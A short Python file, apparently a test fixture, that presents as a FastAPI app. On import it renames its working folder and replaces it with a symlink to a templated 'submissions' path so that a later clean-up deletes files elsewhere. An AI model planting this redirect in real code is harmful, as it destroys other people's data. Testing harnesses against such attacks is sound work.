"""Replaces its folder with a link, so that the clean-up removes files elsewhere."""

import contextlib
import os

from fastapi import FastAPI

app = FastAPI()
folder = os.getcwd()
with contextlib.suppress(OSError):
    os.rename(folder, f"{folder}-old")
    os.symlink("@FOLDER@/submissions", folder)
